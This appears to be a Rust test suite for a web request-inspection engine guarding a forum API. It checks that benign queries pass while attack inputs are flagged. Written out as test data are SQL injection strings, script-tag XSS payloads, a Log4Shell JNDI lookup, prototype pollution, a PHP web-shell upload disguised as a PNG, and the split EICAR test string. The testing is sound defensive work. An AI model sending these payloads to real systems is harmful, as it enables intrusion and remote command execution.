use serde_json::json;

use crate::testing::{SHOP, build, call, errors, send};

const FORUM: &str = r#"
openapi: 3.1.0
info: { title: Forum, version: '1' }
paths:
  /posts:
    get:
      operationId: listPosts
      security: []
      parameters: [{ name: q, in: query, schema: { type: string } }]
      responses: { '200': { description: ok } }
    post:
      operationId: addPost
      security: []
      requestBody:
        content:
          application/json: { schema: { type: object } }
          multipart/form-data: { schema: { type: object } }
      responses: { '200': { description: ok } }
"#;

fn went(policies: serde_json::Value, call: &crate::testing::Call) -> &'static str {
    send(&build(FORUM, &policies, false).unwrap().engine, call).code()
}

#[test]
fn attacks_are_refused_and_people_are_not() {
    for (target, expected) in [
        ("/posts?q=O%27Brien", "permitted"),
        ("/posts?q=Drop+Table+Tennis", "permitted"),
        ("/posts?q=1%27+or+%271%27%3D%271", "inspect-sql"),
        ("/posts?q=%3Cscript%3Ealert(1)%3C/script%3E", "inspect-xss"),
        ("/posts?q=%253Cscript%253Ealert(1)%253C/script%253E", "inspect-xss"),
        ("/posts?q=%24%7Bjndi%3Aldap%3A//x.example/a%7D", "inspect-jndi"),
    ] {
        assert_eq!(went(json!({}), &call("GET", target)), expected, "{target}");
    }
}

#[test]
fn bodies_are_read_by_their_type() {
    let post = |body: &str| call("POST", "/posts").json(body);
    assert_eq!(went(json!({}), &post(r#"{"title":"Select a plan from the list","n":1}"#)), "permitted");
    assert_eq!(
        went(json!({}), &post(r#"{"a":[{"b":"x' UNION SELECT password FROM users-- "}]}"#)),
        "inspect-sql"
    );
    assert_eq!(went(json!({}), &post(r#"{"__proto__":{"admin":true}}"#)), "inspect-prototype");
}

#[test]
fn modes_and_exceptions() {
    let attack = call("POST", "/posts").json(r#"{"post":{"html":"<script>alert(1)</script>"}}"#);
    let except = |until: &str| json!({ "inspect": { "except": [{ "field": "/post/html", "classes": ["xss"], "reason": "editors write HTML", "until": until }] } });
    assert_eq!(went(json!({}), &attack), "inspect-xss");
    assert_eq!(went(except("2099-12-31"), &attack), "permitted");
    assert_eq!(went(except("2020-12-31"), &attack), "inspect-xss");
    let monitored = json!({ "inspect": { "classes": { "xss": "monitor" } } });
    let went = send(&build(FORUM, &monitored, false).unwrap().engine, &attack);
    assert_eq!((went.code(), went.found()), ("permitted", vec!["inspect-xss"]));
    assert!(
        !went.record.findings.iter().any(|finding| finding.reason.contains("alert")),
        "no value in a reason"
    );
}

#[test]
fn mistakes_are_named() {
    let found = errors(
        SHOP,
        json!({ "inspect": { "classes": { "sqli": "off" } }, "authenticate": { "schemes": { "user": "upstream" } } }),
    );
    assert!(found.iter().any(|error| error.contains("there is no kind of attack `sqli`")), "{found:?}");
    let found = errors(
        SHOP,
        json!({ "inspect": { "except": [{ "field": "a", "reason": " " }] }, "authenticate": { "schemes": { "user": "upstream" } } }),
    );
    assert!(found.iter().any(|error| error.contains("expected a reason")), "{found:?}");
}

#[test]
fn uploads_are_what_they_say() {
    let file = |name: &str, kind: &str, content: &str| {
        let mut call = call("POST", "/posts").with("content-type", "multipart/form-data; boundary=b");
        call.body = Some(format!(
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\nContent-Type: {kind}\r\n\r\n{content}\r\n--b--\r\n"
        ));
        went(json!({}), &call)
    };
    assert_eq!(file("a.txt", "text/plain", "hello"), "permitted");
    assert_eq!(file("a.png", "image/png", "<?php system($_GET['c']);"), "inspect-upload");
    // In two pieces: a scanner on the developer's machine would take this file away.
    let eicar = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-", "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat();
    assert_eq!(file("a.txt", "text/plain", &eicar), "inspect-upload");
}
